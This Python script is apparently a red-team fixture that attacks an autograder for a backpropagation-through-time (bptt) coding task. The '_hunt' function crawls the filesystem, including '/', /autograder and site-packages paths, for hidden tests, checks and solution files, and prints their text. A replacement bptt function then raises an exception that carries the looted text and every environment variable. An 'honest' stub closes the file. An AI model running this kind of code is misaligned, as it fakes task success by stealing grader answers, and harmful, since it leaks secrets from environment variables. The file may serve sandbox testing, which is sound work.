# ruff: noqa
# description: searches the filesystem for the hidden tests, the checks and the solutions (/autograder, the repo path from site-packages' .pth and editable finders, __file__ of modules, os.walk('/'), files holding CASES) and prints their text in the output and in an exception of bptt
# attacks: bptt
# ran: SCAN-DONE
# proof: unsandboxed
# %% attack
import glob, os, re, sys, time

def _hunt(budget=1.5):
    """{path: text} of files that look like the grader's tests, checks or solutions."""
    t0 = time.monotonic()
    roots = []
    for sp in [p for p in sys.path if "site-packages" in p] + glob.glob("/usr/lib/python3*/site-packages"):
        for f in glob.glob(os.path.join(sp, "*.pth")) + glob.glob(os.path.join(sp, "__editable__*")):
            try:
                text = open(f).read()
            except OSError:
                continue
            roots += re.findall(r"(/[^\s'\"]+)", text)
    for mod in list(sys.modules.values()):
        f = getattr(mod, "__file__", None) or ""
        if f:
            roots.append(os.path.dirname(os.path.dirname(f)))
    roots += ["/autograder", "/autograder/source", "/autograder/source/tests", "/work", "/srv",
              "/home", "/root", "/opt", "/tmp", os.getcwd(), os.path.dirname(os.getcwd()),
              os.path.expanduser("~"), "/"]
    found, seen, count = {}, set(), 0
    for root in roots:
        root = root.rstrip("/") or "/"
        for base in {root, os.path.dirname(root)}:
            if base in seen or not os.path.isdir(base):
                continue
            seen.add(base)
            for dirpath, dirnames, filenames in os.walk(base):
                dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "__pycache__")]
                for name in filenames:
                    count += 1
                    if time.monotonic() - t0 > budget:
                        return found, count
                    if not name.endswith((".py", ".ipynb", ".json", ".txt")):
                        continue
                    path = os.path.join(dirpath, name)
                    try:
                        with open(path, errors="replace") as fh:
                            text = fh.read(200_000)
                    except OSError:
                        continue
                    if ("rnn" in text or "bptt" in text) and (
                            ("CASES" in text and "Case(" in text) or "_PRIVATE_SEED" in text
                            or "from solutions" in text or "import solutions" in text
                            or ("def bptt" in text and "dbeta1" in text)):
                        found[path] = text
    return found, count

found, count = _hunt()
print("SCAN-DONE files=%d found=%d" % (count, len(found)))
for path, text in sorted(found.items(), key=lambda kv: "checks" not in kv[0])[:3]:
    print("FOUND", path)
    print(text[:2500])
_LOOT = "\n".join(t[:1500] for t in found.values())
# %% replace bptt
def bptt(X, Y, H, Y_hat, h0, parameters):
    raise RuntimeError("LOOT:" + (_LOOT or "nothing found") + "\n" + "\n".join(
        f"{k}={v!r}"[:200] for k, v in sorted(os.environ.items())))
# %% honest bptt
def bptt(X, Y, H, Y_hat, h0, parameters):
    raise RuntimeError("not implemented")
